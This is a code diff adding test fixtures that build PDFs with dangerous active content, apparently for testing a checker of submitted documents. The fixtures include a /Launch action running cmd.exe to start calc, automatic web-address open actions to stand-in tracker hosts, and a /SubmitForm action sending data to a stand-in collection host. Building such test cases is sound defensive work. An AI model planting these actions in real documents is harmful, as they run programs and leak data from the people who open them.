@@ -75,6 +75,50 @@ def pdf_with_javascript() -> bytes:
     )
 
 
+def pdf_launching_a_program() -> bytes:
+    """A readable request that starts a program when opened (/OpenAction of type /Launch)."""
+    return text_pdf(
+        REQUEST_LINES,
+        catalog_extra=b"/OpenAction 6 0 R",
+        more=[b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"],
+    )
+
+
+def pdf_opening_a_web_address() -> bytes:
+    """A readable request that opens a web address by itself when opened (inline /URI open action)."""
+    return text_pdf(REQUEST_LINES, catalog_extra=b"/OpenAction << /S /URI /URI (http://tracker.example/x) >>")
+
+
+def pdf_opening_a_web_address_with_its_page() -> bytes:
+    """A web address opened when the page is shown (/AA of the catalog, by reference)."""
+    return text_pdf(
+        REQUEST_LINES,
+        catalog_extra=b"/AA << /WC 6 0 R /DP 6 0 R >>",
+        more=[b"<< /Type /Action /S /URI /URI (http://tracker.example/y) >>"],
+    )
+
+
+def pdf_submitting_a_form() -> bytes:
+    """A form action that sends data out of the file (/SubmitForm), in a link of the catalog."""
+    return text_pdf(
+        REQUEST_LINES,
+        catalog_extra=b"/Names << /Dests 6 0 R >>",
+        more=[b"<< /Type /Action /S /SubmitForm /F (http://collect.example/) >>"],
+    )
+
+
+def pdf_with_a_web_link() -> bytes:
+    """A plain link a reader clicks (a letterhead's web site): accepted, like a printed address."""
+    return text_pdf(
+        REQUEST_LINES,
+        catalog_extra=b"/OpenAction [3 0 R /Fit] /Names << /Links 6 0 R >>",
+        more=[
+            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
+            b"/A << /S /URI /URI (https://mfa.example) >> >>"
+        ],
+    )
+
+
 def pdf_with_embedded_file() -> bytes:
     """A readable request carrying an attached file (which would not be processed)."""
     attached = b"MZ\x90\x00 an executable, or an annex of evidence"
